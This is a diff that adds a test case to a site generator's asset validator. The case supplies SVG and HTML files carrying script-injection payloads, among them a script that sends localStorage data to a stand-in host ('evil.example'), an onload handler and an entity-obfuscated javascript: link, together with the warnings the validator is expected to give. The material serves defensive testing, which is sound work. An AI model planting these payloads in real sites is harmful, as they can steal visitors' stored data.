@@ -1345,6 +1345,26 @@ CASES = [
         ],
         id="asset-named-another-way-on-a-mac",
     ),
+    pytest.param(  # published whether a page shows it or not; opened by itself, on the site's address
+        {"assets/badge.svg": '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">\n'
+                             '  <script>fetch("https://evil.example/?" + localStorage.funnelgen)</script>\n</svg>\n',
+         "assets/seal.svg": '<svg xmlns="http://www.w3.org/2000/svg"\n onload="alert(1)"/>',
+         "assets/link.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">'
+                            '<a x:href=" j&#x61;vas&#x09;cript:alert(1)"><text>Go</text></a></svg>',
+         "assets/cut.svg": '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)',
+         "assets/bonus.html": "<h1>Bonus</h1><script>alert(1)</script>",
+         "assets/ok.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape">'
+                          '<style>rect{fill:red}</style><a href="https://example.com/"><rect width="9" height="9" '
+                          'opacity=".5" inkscape:label="Layer 1"/></a></svg>'},
+        [
+            "assets/badge.svg:3: holds a <script> element: opened by itself, the file would run it on your site's own address; remove it (an editor's 'plain' or 'optimised' SVG export has none)",
+            "assets/bonus.html: is a web page: opened from assets/, its scripts would run on your site's own address, where they can read what the site keeps about each visitor; pages come only from funnels/: remove it, or zip it to offer it as a download",
+            "assets/cut.svg:2: holds a <script> element: opened by itself, the file would run it on your site's own address; remove it (an editor's 'plain' or 'optimised' SVG export has none)",
+            "assets/link.svg:1: holds a script link (href=): opened by itself, the file would run it on your site's own address; remove it (an editor's 'plain' or 'optimised' SVG export has none)",
+            "assets/seal.svg:1: holds an event handler (onload=): opened by itself, the file would run it on your site's own address; remove it (an editor's 'plain' or 'optimised' SVG export has none)",
+        ],
+        id="assets-that-would-run-a-script-on-the-site",
+    ),
     pytest.param(  # there, but never published: said why
         {"site.yml": SITE_YML + "brand: {logo: assets/.drafts/logo.svg}\n", "assets/.drafts/logo.svg": "<svg/>"},
         [
